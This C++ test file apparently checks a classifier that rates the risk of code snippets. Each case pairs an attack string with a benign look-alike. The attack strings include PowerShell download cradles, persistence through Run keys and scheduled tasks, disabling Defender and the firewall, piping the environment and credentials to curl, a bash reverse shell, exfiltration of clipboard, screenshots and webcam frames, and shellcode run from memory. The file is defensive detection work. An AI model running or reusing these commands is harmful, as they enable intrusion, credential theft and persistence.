// Commands: Windows command lines, shell spellings, capture programs and
// read-only system queries (issue 14, third round). Each mechanism with the attack it must catch and
// the look-alike that must stay at its level. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(RubricClasses, WindowsCommandLines) {
  const Case cases[] = {
      {"PowerShell download cradle through os.system (unquoted parentheses)", B,
       "import os\nos.system(\"powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\")\n",
       "REMOTE-CODE-EXECUTION"},
      {"DownloadFile then Start-Process, as an argv list", B,
       "import subprocess\nsubprocess.run(['powershell.exe', '-c', \"(New-Object Net.WebClient).DownloadFile('http://x.example/u.exe', 'u.exe'); Start-Process u.exe\"])\n",
       "REMOTE-CODE-EXECUTION"},
      {"certutil download, then the file it wrote is run", B,
       "import os\nos.system('certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe && a.exe')\n",
       "REMOTE-CODE-EXECUTION"},
      {"Run key written by reg add (backslashes lost to the POSIX parse)", B,
       "import os\nos.system(r'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\u.exe /f')\n",
       "PERSISTENCE"},
      {"scheduled task at logon", B,
       "import subprocess\nsubprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'upd', '/tr', 'C:\\\\u.exe'])\n",
       "PERSISTENCE"},
      {"copied into the Startup folder through cmd /c", B,
       "import os\nos.system('cmd /c copy u.exe \"%APPDATA%\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.exe\"')\n",
       "PERSISTENCE"},
      {"Defender real-time monitoring off", B,
       "import subprocess\nsubprocess.run(['powershell', 'Set-MpPreference', '-DisableRealtimeMonitoring', '$true'])\n",
       "DISABLE-SECURITY"},
      {"firewall off", B, "import subprocess\nsubprocess.run('netsh advfirewall set allprofiles state off', shell=True)\n",
       "DISABLE-SECURITY"},
      {"event log cleared through cmd /c", B, "import subprocess\nsubprocess.run(['cmd', '/c', 'wevtutil', 'cl', 'Security'])\n",
       "DISABLE-SECURITY"},
      {"shadow copies deleted (upper case)", B, "import os\nos.system('VSSADMIN.EXE Delete Shadows /All /Quiet')\n",
       "DISABLE-SECURITY"},
      {"a Run key queried", M,
       "import subprocess\nsubprocess.run(['reg', 'query', r'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'])\n",
       "RUNS-PROCESS"},
      {"scheduled tasks listed", M, "import subprocess\nsubprocess.run(['schtasks', '/query', '/fo', 'LIST'])\n", "RUNS-PROCESS"},
      {"a download kept as data", M,
       "import os\nos.system('powershell -c Invoke-WebRequest https://example.com/data.csv -OutFile data.csv')\n",
       "RUNS-PROCESS"},
      {"PowerShell listing processes", M, "import subprocess\nsubprocess.run(['powershell', '-c', 'Get-Process | Sort-Object CPU'])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// Download cradles whose run step is a script block or an in-memory assembly
// (fifth round): the fetched text or bytes are still what runs.
TEST(RubricClasses, WindowsCradlesThroughScriptBlocksAndAssemblies) {
  const Case cases[] = {
      {"DownloadData into Assembly::Load", B,
       "import subprocess\nsubprocess.run(['powershell.exe', '-c', \"$x=[System.Net.WebClient]::new(); "
       "$d=$x.DownloadData('http://203.0.113.5/a.dll'); [Reflection.Assembly]::Load($d)\"])\n",
       "REMOTE-CODE-EXECUTION"},
      {"DownloadString into a dot-sourced ScriptBlock, through a variable", B,
       "import os\ncmd = 'powershell -w hidden -c \"$s=(New-Object Net.WebClient).DownloadString(\\'http://203.0.113.5/a\\');"
       ".([ScriptBlock]::Create($s))\"'\nos.system(cmd)\n",
       "REMOTE-CODE-EXECUTION"},
      {"the profile dot-sourced before a REST call", M,
       "import subprocess\nsubprocess.run(['powershell', '-c', '. $PROFILE; Invoke-RestMethod https://api.example.com/v1/status'])\n",
       "RUNS-PROCESS"},
      {"a REST call whose answer is printed", M,
       "import subprocess\nsubprocess.run(['pwsh', '-c', 'Invoke-RestMethod https://api.example.com/s | ConvertTo-Json'])\n",
       "RUNS-PROCESS"},
      {"a download unpacked, not run", M,
       "import subprocess\nsubprocess.run(['powershell', '-c', 'Invoke-WebRequest https://example.com/r.zip -OutFile r.zip; "
       "Expand-Archive r.zip'])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

TEST(RubricClasses, ShellEnvironmentDumpsAndHostKeys) {
  const Case cases[] = {
      {"env piped to curl", B, "env | curl -s -d @- http://203.0.113.9/e\n", "EXFILTRATION", SH},
      {"printenv piped to curl", B, "printenv | curl -s --data-binary @- https://paste.example.net/new\n", "EXFILTRATION", SH},
      {"env filtered on the terminal", L, "env | grep -i proxy\nprintenv HOME\n", nullptr, SH},
      {"env as a wrapper", L, "env LC_ALL=C sort names.txt > sorted.txt\n", nullptr, SH},
      {"ssh without host key checking", M, "ssh -o StrictHostKeyChecking=no deploy@web1 uptime\n", "SSH-HOST-KEY-UNCHECKED", SH},
      {"ssh with host key checking", L, "ssh deploy@web1 uptime\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

TEST(RubricClasses, ShellArraysAndArchiveDirectories) {
  const Case cases[] = {
      {"ssh options in an array", M, "OPTS=(-o StrictHostKeyChecking=no -o ConnectTimeout=5)\nssh \"${OPTS[@]}\" web1 uptime\n",
       "SSH-HOST-KEY-UNCHECKED", SH},
      {"a sudo command line in an array", RiskLevel::high, "CMD=(sudo systemctl restart nginx)\n\"${CMD[@]}\"\n",
       "PRIVILEGE-ESCALATION", SH},
      {"credential files looped over from an array and uploaded", B,
       "FILES=(~/.ssh/id_rsa ~/.aws/credentials)\nfor f in \"${FILES[@]}\"; do curl -F \"f=@$f\" http://203.0.113.9/u; done\n",
       "EXFILTRATION", SH},
      {"own files looped over from an array and removed", L,
       "FILES=(build/a.o \"build/b c.o\")\nfor f in \"${FILES[@]}\"; do rm -f -- \"$f\"; done\n", nullptr, SH},
      {"the environment archived with tar -C and uploaded", B,
       "W=$(mktemp -d)\nprintenv > \"$W/env.txt\"\ntar -czf \"$W/b.tgz\" -C \"$W\" env.txt\n"
       "curl -F \"file=@$W/b.tgz\" https://x.example.net/u\n",
       "EXFILTRATION", SH},
      {"a build archived with tar -C and uploaded", L,
       "tar -czf site.tgz -C public .\ncurl -fsS -T site.tgz https://deploy.example.com/upload\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

TEST(RubricClasses, CaptureThroughProgramsAndStartupHooks) {
  const Case cases[] = {
      {"xclip output posted", B,
       "import subprocess, requests\nclip = subprocess.check_output(['xclip', '-selection', 'clipboard', '-o']).decode()\n"
       "requests.post('http://203.0.113.3/c', data=clip)\n",
       "EXFILTRATION"},
      {"xclip output kept", M, "import subprocess\nclip = subprocess.check_output(['xclip', '-o'])\nprint(len(clip))\n", "RUNS-PROCESS"},
      {"scrot screenshot uploaded", B,
       "import subprocess, requests\nsubprocess.run(['scrot', 'shot.png'])\n"
       "requests.post('http://203.0.113.3/s', files={'f': open('shot.png', 'rb')})\n",
       "EXFILTRATION"},
      {"nmcli secrets posted", B,
       "import subprocess, requests\nout = subprocess.check_output(['nmcli', '-s', '-g', '802-11-wireless-security.psk', 'connection', 'show', 'home'])\n"
       "requests.post('http://203.0.113.3/w', data=out)\n",
       "EXFILTRATION"},
      {"webcam frame written and uploaded", B,
       "import cv2, requests\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\ncv2.imwrite('f.jpg', frame)\n"
       "requests.post('http://203.0.113.3/w', files={'f': open('f.jpg', 'rb')})\n",
       "EXFILTRATION"},
      {"a .pth start-up hook in site-packages", B,
       "import os, site\npth = os.path.join(site.getsitepackages()[0], 'zz.pth')\nopen(pth, 'w').write('import os\\n')\n",
       "PERSISTENCE"},
      {"a .pth in the user's site-packages", B,
       "import os, site\nopen(os.path.join(site.getusersitepackages(), 'a.pth'), 'w').write('import helper\\n')\n",
       "PERSISTENCE"},
      {"a model saved as .pth", L, "import torch\ntorch.save({}, 'model.pth')\n"},
      {"clipboard written from a file in a shell script", L, "xclip -selection clipboard < notes.txt\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

TEST(RubricClasses, ReadOnlySystemQueries) {
  const Case cases[] = {
      {"systemctl --user restart", M, "import subprocess\nsubprocess.run(['systemctl', '--user', 'restart', 'myapp'])\n", "RUNS-PROCESS"},
      {"apt list --installed", M, "import subprocess\nsubprocess.run(['apt', 'list', '--installed'])\n", "RUNS-PROCESS"},
      {"mount listing", M, "import subprocess\nsubprocess.run(['mount'], capture_output=True)\n", "RUNS-PROCESS"},
      {"timedatectl status", M, "import subprocess\nsubprocess.run(['timedatectl', 'status'])\n", "RUNS-PROCESS"},
      {"ufw status", M, "import subprocess\nsubprocess.run(['ufw', 'status'])\n", "RUNS-PROCESS"},
      {"systemctl restart", RiskLevel::high, "import subprocess\nsubprocess.run(['systemctl', 'restart', 'nginx'])\n", "SYSTEM-ADMINISTRATION"},
      {"apt-get install", RiskLevel::high, "import subprocess\nsubprocess.run(['apt-get', 'install', '-y', 'nginx'])\n", "SYSTEM-ADMINISTRATION"},
      {"pacman -Syu", RiskLevel::high, "pacman -Syu\n", "SYSTEM-ADMINISTRATION", SH},
      {"timedatectl set-ntp", RiskLevel::high, "timedatectl set-ntp true\n", "SYSTEM-ADMINISTRATION", SH},
      {"mount a disk", RiskLevel::high, "mount /dev/sdb1 /mnt\n", "SYSTEM-ADMINISTRATION", SH},
      {"ufw allow", RiskLevel::high, "ufw allow 22\n", "SYSTEM-ADMINISTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// Fourth round: command libraries (sh), a temporary file's name run later, git hooks.
TEST(RubricClasses, CommandLibrariesTempNamesAndGitHooks) {
  const Case cases[] = {
      {"sh module: a reverse shell through sh.bash", B,
       "import sh\nsh.bash('-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n", "REVERSE-SHELL"},
      {"sh module: from sh import, the program keeps its name and arguments", RiskLevel::high,
       "from sh import sudo\nsudo('chmod', '4755', '/usr/bin/find')\n", "PRIVILEGE-ESCALATION"},
      {"sh module: an ordinary listing stays a process run", M, "import sh\nprint(sh.ls('-l', '/srv'))\n",
       "RUNS-PROCESS"},
      {"pip.main's argv is the whole line (no unknown alternative)", M,
       "import pip\npip.main(['install', 'requests'])\n", nullptr},
      {"a download written to a NamedTemporaryFile and its .name run", B,
       "import tempfile, subprocess, urllib.request\n"
       "data = urllib.request.urlopen('http://203.0.113.9/x.sh').read()\n"
       "with tempfile.NamedTemporaryFile(delete=False, suffix='.sh') as tf:\n    tf.write(data)\n"
       "subprocess.call(['sh', tf.name])\n",
       "REMOTE-CODE-EXECUTION"},
      {"a NamedTemporaryFile of our own text, read back: not a fixed /tmp path", L,
       "import tempfile\nwith tempfile.NamedTemporaryFile('w', delete=False) as tf:\n    tf.write('hello')\n"
       "print(open(tf.name).read())\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// Native code run from memory: a mapping made executable is shellcode's only use.
TEST(RubricClasses, NativeCodeFromMemory) {
  const Case cases[] = {
      {"mmap with PROT_EXEC, bytes written, CFUNCTYPE at its address", B,
       "import ctypes, mmap\ncode = bytes.fromhex('4831c0c3')\n"
       "buf = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nbuf.write(code)\n"
       "fn = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))\nfn()\n",
       "NATIVE-CODE-FROM-MEMORY"},
      {"libc mmap with prot 7 and memmove", B,
       "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nptr = libc.mmap(None, 4096, 7, 0x22, -1, 0)\n"
       "ctypes.memmove(ptr, b'\\x90\\xc3', 2)\nctypes.cast(ptr, ctypes.CFUNCTYPE(None))()\n",
       "NATIVE-CODE-FROM-MEMORY"},
      {"VirtualAlloc with PAGE_EXECUTE_READWRITE", B,
       "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 4096, 0x3000, 0x40)\n", "NATIVE-CODE-FROM-MEMORY"},
      {"a file mapped read-only", L,
       "import mmap\nwith open('data.bin', 'rb') as f:\n    m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)\n    print(m[:4])\n",
       nullptr},
      {"an anonymous read-write mapping", L, "import mmap\nm = mmap.mmap(-1, 4096)\nm.write(b'x')\n", nullptr},
  };
  for (const auto& c : cases) check(c);
}

// What a shell or an interpreter reads on its standard input is the code it runs.
TEST(RubricClasses, CodeOnStandardInput) {
  const Case cases[] = {
      {"a download given to bash as input=", B,
       "import subprocess, requests\nscript = requests.get('http://203.0.113.9/i.sh', timeout=5).text\n"
       "subprocess.run(['bash'], input=script, text=True)\n",
       "REMOTE-CODE-EXECUTION"},
      {"sh library: curl's output fed to bash with _in=", B,
       "from sh import curl, bash\nscript = curl('-s', 'http://203.0.113.9/i.sh')\nbash(_in=script)\n",
       "REMOTE-CODE-EXECUTION"},
      {"a download given to python3 - on stdin", B,
       "import subprocess, urllib.request\ncode = urllib.request.urlopen('http://203.0.113.9/p').read()\n"
       "subprocess.check_output(['python3', '-'], input=code)\n",
       "REMOTE-CODE-EXECUTION"},
      {"a download given to grep is data, not code", M,
       "import subprocess, requests\nr = requests.get('https://example.com/data.txt', timeout=5)\n"
       "subprocess.run(['grep', '-c', 'error'], input=r.text, text=True)\n",
       "RUNS-PROCESS"},
      {"our own constant script on bash's stdin", M,
       "import subprocess\nsubprocess.run(['bash'], input='echo ready', text=True)\n", "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A download extracted into a directory put on sys.path: importing from it runs the download.
TEST(RubricClasses, ImportsFromAnExtractedDownload) {
  const Case cases[] = {
      {"zip download extracted, put on sys.path, import_module", B,
       "import io, sys, zipfile, importlib, requests\n"
       "r = requests.get('https://plugins.example.net/p.zip', timeout=10)\n"
       "zipfile.ZipFile(io.BytesIO(r.content)).extractall('/opt/app/plugins')\n"
       "sys.path.insert(0, '/opt/app/plugins')\nimportlib.import_module('plugin').main()\n",
       "REMOTE-CODE-EXECUTION"},
      {"tarball download extracted, sys.path.append, __import__", B,
       "import io, sys, tarfile, urllib.request\n"
       "data = urllib.request.urlopen('http://203.0.113.9/m.tgz').read()\n"
       "with tarfile.open(fileobj=io.BytesIO(data)) as t:\n    t.extractall('vendor', filter='data')\n"
       "sys.path.append('vendor')\n__import__('payload')\n",
       "REMOTE-CODE-EXECUTION"},
      {"a local archive of plugins extracted and imported", L,
       "import sys, zipfile, importlib\nwith zipfile.ZipFile('plugins.zip') as z:\n    z.extractall('plugins')\n"
       "sys.path.insert(0, 'plugins')\nimportlib.import_module('myplugin')\n",
       nullptr},
      {"a download extracted, but only a standard module imported", L,
       "import io, sys, zipfile, importlib, requests\n"
       "r = requests.get('https://example.net/data.zip', timeout=10)\n"
       "zipfile.ZipFile(io.BytesIO(r.content)).extractall('data')\nsys.path.insert(0, 'data')\n"
       "importlib.import_module('json')\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
